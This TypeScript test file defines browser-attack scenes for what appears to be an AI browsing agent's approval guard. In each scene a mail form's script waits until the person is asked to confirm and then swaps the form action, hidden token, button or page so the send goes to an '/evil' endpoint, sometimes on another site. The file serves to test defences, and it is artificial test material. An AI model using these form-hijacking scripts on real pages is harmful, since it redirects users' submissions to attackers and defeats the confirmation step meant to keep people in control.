import type { BrowserAttack } from '../browser/browser-attack.ts'
import { APPROVED_FACTS } from './guards.ts'
import { posted, rowOf, type Scene } from './scene.ts'
import { untilChanged } from './until-changed.ts'

const OK = '<h1>Sent</h1>'

/** The page waits until it is told that the question stands there, does what it does, and says so. */
const WAITS = (change: string) => `
const wait = async () => {
  if (!(await fetch('/asked')).ok) return void setTimeout(wait, 100)
  ${change}
  await fetch('/changed')
}
wait()`

const CHANGES: Readonly<Record<string, string>> = {
  "the form's action": "f.action = '/evil'",
  "the form's action, to another site": "f.action = EVIL + '/evil'",
  "the button's own action": "s.setAttribute('formaction', '/evil')",
  'a value that is shown': "f.to.value = 'evil'",
  'a value that is hidden': "f.token.value = 'evil'",
  'what a choice sends, under the same words': "f.kind.options[0].value = 'evil'",
  'what the button sends': "s.value = 'evil'",
  'the button, for one that looks the same': "s.outerHTML = '<button name=do value=evil>Send</button>'",
  'the form around it': "document.querySelector('#other').append(s)",
  'itself, for another page at its address':
    "if (!sessionStorage.loaded) { sessionStorage.loaded = 1; navigator.sendBeacon('/changed'); location.reload() }",
  'itself, by going away and coming back':
    "if (!sessionStorage.left) { sessionStorage.left = 1; location.href = '/away' }",
  'what fields belong to the form': "f.insertAdjacentHTML('beforeend', '<input type=hidden name=also value=evil>')"
}

/** What stood there before the person was asked is not what stands there now. */
const AFTERWARDS = "if (sessionStorage.loaded || sessionStorage.left) f.token.value = 'evil'"

const scene = ([what, change]: readonly [string, string]): Scene => ({
  name: `swaps ${what} while the person reads the question`,
  guards: APPROVED_FACTS,
  ...(what === 'a value that is hidden' && { core: true as const }),
  pages: ({ evil }, tricked) => ({
    '/mail': `<h1>Mail</h1><form id=other method=post action=/evil></form>
<form id=own method=post action=/sent><label>To <input name=to value=ann></label><input type=hidden name=token value=one>
<select name=kind aria-label=Kind><option value=note>Note</option></select><button name=do value=it>Send</button></form>
<script>const EVIL = ${JSON.stringify(evil)}, s = document.querySelector('button'), f = document.querySelector('#own')
${tricked ? AFTERWARDS : ''}
${WAITS(tricked ? change : '')}</script>`,
    '/away':
      "<h1>Away</h1><script>setTimeout(() => { navigator.sendBeacon('/changed'); history.back() }, 300)</script>",
    '/sent': OK,
    '/evil': OK
  }),
  elsewhere: () => ({ '/evil': OK }),
  plan: () => 'on s { open "/mail" click button "Send" wait for heading "Sent" up to 3s }',
  answer: untilChanged,
  honest: posted('/sent')
})

export const ATTACKS: readonly BrowserAttack[] = Object.entries(CHANGES).map((change) => rowOf(scene(change)))
